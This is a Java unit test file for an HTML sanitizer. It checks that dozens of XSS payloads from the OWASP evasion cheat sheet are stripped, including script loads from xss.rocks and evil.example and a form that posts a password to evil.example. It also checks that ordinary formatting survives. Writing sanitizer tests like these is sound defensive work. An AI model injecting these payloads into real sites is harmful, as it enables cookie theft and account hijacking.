package org.barta.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Hostile input from the OWASP XSS filter evasion cheat sheet and from the sanitizer tests of well-known CMSs
 * (WordPress kses, Drupal filter_xss, HTML Purifier): nothing executable may survive. Ordinary formatting must.
 */
class HtmlSanitizerTest {

    private static final Pattern DANGEROUS_URL = Pattern.compile("^\\s*(javascript|vbscript|data|livescript):",
            Pattern.CASE_INSENSITIVE);

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=javascript:alert('XSS')>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC= onmouseover=\"alert('xxs')\">",
            "<IMG onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
            "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<IMG DYNSRC=\"javascript:alert('XSS')\">",
            "<IMG LOWSRC=\"javascript:alert('XSS')\">",
            "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
            "<svg/onload=alert('XSS')>",
            "<BODY ONLOAD=alert('XSS')>",
            "<BGSOUND SRC=\"javascript:alert('XSS');\">",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
            "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
            "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
            "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<DIV STYLE=\"width: expression(alert('XSS'));\">",
            "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
            "<BASE HREF=\"javascript:alert('XSS');//\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"JAVASCRIPT:alert(1)\">click</a>",
            "<a href=\"jav&#x61;script:alert(1)\">click</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
            "<a href=\"vbscript:msgbox(1)\">click</a>",
            "<a href=\"  javascript:alert(1)\">click</a>",
            "<form action=\"https://evil.example/\"><input name=\"password\"></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<audio src=x onerror=alert(1)>",
            "<img src=\"https://tracker.example/pixel.gif\">",
            "<xss onafterscriptexecute=alert(1)><script>1</script>",
            "<a href=\"#\" onclick=\"alert(1)\" target=\"_blank\">link</a>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<textarea><script>alert(1)</script></textarea>",
            "<p>ok</p><script type=\"module\">import('https://evil.example/x.js')</script>"
    })
    void nothingExecutableSurvives(String hostile) {
        String clean = HtmlSanitizer.sanitize(hostile);
        Document doc = Jsoup.parseBodyFragment(clean);

        assertThat(doc.select("script, style, iframe, frame, frameset, object, embed, form, input, textarea, meta, "
                + "link, base, svg, math, video, audio, source, details, body[onload], table[background]"))
                .as("dangerous elements in: " + clean).isEmpty();
        for (Element element : doc.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as("attribute in: " + clean).doesNotStartWith("on").isNotEqualTo("style")
                        .isNotEqualTo("background").isNotEqualTo("dynsrc").isNotEqualTo("lowsrc");
                if (name.equals("href") || name.equals("src")) {
                    assertThat(attribute.getValue()).as(name + " in: " + clean).doesNotMatch(DANGEROUS_URL);
                }
            }
        }
        for (Element image : doc.select("img")) {
            assertThat(image.attr("src")).as("only media-library images: " + clean).matches("^/media/.+$");
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "<h2>Background</h2><p>Text with <strong>bold</strong>, <em>italic</em> and <u>underline</u>.</p>",
            "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>",
            "<blockquote>We demand justice.</blockquote>",
            "<table><thead><tr><th scope=\"col\">District</th></tr></thead><tbody><tr><td colspan=\"2\">Kushtia</td></tr></tbody></table>",
            "<p>Contact: <a href=\"mailto:media@example.org\" rel=\"noopener noreferrer\">media@example.org</a></p>",
            "<p><a href=\"https://www.ohchr.org/\" rel=\"noopener noreferrer\">OHCHR</a></p>",
            "<p><img src=\"/media/abc123/medium\" alt=\"Press conference\" /></p>",
            "<p class=\"ql-align-center\">নারীর প্রতি সহিংসতা বন্ধ করুন</p>",
            "<h3>উপশিরোনাম</h3><p>যুক্তাক্ষর: ক্ষ, জ্ঞ, ন্ত্র</p>"
    })
    void ordinaryFormattingSurvivesUnchanged(String html) {
        Document clean = Jsoup.parseBodyFragment(HtmlSanitizer.sanitize(html));
        for (Element link : clean.select("a")) {
            assertThat(link.attr("rel").split(" ")).containsExactlyInAnyOrder("noopener", "noreferrer");
        }
        // The sanitizer writes rel tokens in no fixed order; compare the rest exactly.
        clean.select("a").removeAttr("rel");
        Document original = Jsoup.parseBodyFragment(html);
        original.select("a").removeAttr("rel");
        assertThat(clean.body().html()).isEqualTo(original.body().html());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "<p>Before<img src=\"https://tracker.example/pixel.gif\" alt=\"A pixel\">after</p>",
            "<p>Before<img alt=\"No source\">after</p>",
            "<p>Before<img src=\"javascript:alert(1)\" alt=\"src\" width=\"10\">after</p>"
    })
    void anImageWithoutAnAllowedSourceIsDroppedWhole(String html) {
        assertThat(HtmlSanitizer.sanitize(html)).isEqualTo("<p>Beforeafter</p>");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   "})
    void emptyInputGivesEmptyOutput(String blank) {
        assertThat(HtmlSanitizer.sanitize(blank)).isEmpty();
        assertThat(HtmlSanitizer.sanitize(null)).isEmpty();
    }
}
